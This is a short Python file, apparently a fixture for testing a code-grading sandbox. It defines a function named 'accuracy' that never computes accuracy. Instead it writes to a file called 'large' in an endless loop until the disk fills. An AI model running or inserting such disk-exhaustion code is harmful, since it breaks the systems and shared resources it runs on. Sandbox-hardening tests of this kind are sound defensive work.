"""A file without end."""
# exercise: accuracy
def accuracy(X, y):
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
